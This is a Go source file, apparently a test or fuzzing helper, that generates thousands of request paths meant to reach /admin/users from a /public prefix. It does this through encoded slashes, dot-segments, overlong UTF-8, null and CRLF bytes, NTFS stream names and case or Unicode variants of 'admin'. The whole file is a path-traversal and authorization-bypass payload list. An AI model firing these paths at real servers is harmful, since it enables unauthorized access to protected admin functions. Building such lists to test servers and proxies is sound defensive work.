package hostile

import "strings"

// Spellings of what a path is made of, which some server reads as the first of each.
var (
	pathSlashes = []string{
		"/", "//", "///", "/./", "/;/", "/;x=1/", "/%2e/", "/%20/", "%2f", "%2F", "/%2f", "%252f", "%25252f", `\`, `/\`, "%5c", "%255c", "%c0%af", "%e0%80%af", "%f0%80%80%af", "%c1%9c",
		"%ef%bc%8f", "%ef%bc%bc", "%u002f", "%u005c", "%u2215", "%e2%88%95", "%e2%81%84", "%e2%80%8b/", "/%e2%80%8b", "/x/%2e%2e/", "/x/..;/", "/x/%252e%252e/",
	}
	pathDots = []string{
		"..", ".%2e", "%2e.", "%2e%2e", "%2E%2E", "%252e%252e", "%25252e%25252e", "..;", "..;x=1", "..%3b", "..%253b", "..%20", "%20..", "..%09", "..%00", "%c0%ae%c0%ae", "%e0%80%ae.", "%ef%bc%8e%ef%bc%8e", "%u002e%u002e",
		".%e2%80%8b.", "%ef%bb%bf..", "..%c2%a0", "%2e%2e%3b",
	}
	pathNames = []string{
		"", "%61dmin", "%2561dmin", "ADMIN", "aDmIn", "admin;", "admin;x=1", "admin%3bx", "admin%253b", "admin%20", "%20admin", "admin%09", "admin.", "admin%2e", "admin%252e", "admin...", "admin::$INDEX_ALLOCATION", "admin:$I30:$INDEX_ALLOCATION",
		"admin%c2%a0", "%ef%bd%81dmin", "ad%e2%80%8bmin", "ad%c2%admin", "admin%ef%b8%8f", "%c1%a1dmin", "%e0%81%a1dmin", "%u0061dmin", "%uff41dmin",
	}
	pathEnds = []string{"", "/", "%3f", "%23", "%00", "%0a", "%0d%0a", ";", "%253f", "%2523", "%2500", "%3f/../../public/x", "%23/../../public/x", "%00/../../public/x", ";/../../public/x", "%0a/../../public/x", "/%2e%2e/%2e%2e/public/x", "?/public", ";.css", "%00.css", "%20", "."}
)

// Paths are request targets that some server, or two in a row, read as one below
// /admin, though they begin with /public, or end as if they led there, or spell the
// name another way.
func Paths() []string {
	var all []string
	for _, slash := range pathSlashes {
		for _, dots := range pathDots {
			all = append(all, "/public"+slash+dots+slash+"admin/users", "/public/a"+slash+dots+"/"+dots+slash+"admin"+slash+"users",
				"/admin"+slash+"users"+slash+dots+"/"+dots+slash+"public/x", "/public/%2e%2e"+slash+"admin"+slash+dots+"/../public/x", "/admin"+slash+dots+slash+"public"+slash+"x",
				"/public/%252e%252e/admin/"+dots+slash+"../public/x")
		}
	}
	for _, name := range pathNames {
		if name == "" {
			name = "admin"
		}
		for _, slash := range pathSlashes {
			for _, end := range pathEnds {
				all = append(all, slash+name+slash+"users"+end, "/"+name+end, "/public/.."+slash+name+slash+"users"+end)
			}
		}
	}
	for _, slash := range pathSlashes {
		for _, host := range []string{"public", "public:80", "public:", "user@public", "public.", "[::1]/public", "public%3a80"} {
			for _, name := range []string{"admin/users", "%61dmin/users", "/admin/users", "x/../admin/users"} {
				all = append(all, "/"+slash+host+"/"+name, slash+"/"+host+"/"+name, "/x/%2e%2e"+slash+"/"+host+"/"+name)
			}
		}
	}
	kept := all[:0]
	for _, target := range all {
		if strings.HasPrefix(target, "/") {
			kept = append(kept, target)
		}
	}
	return kept
}
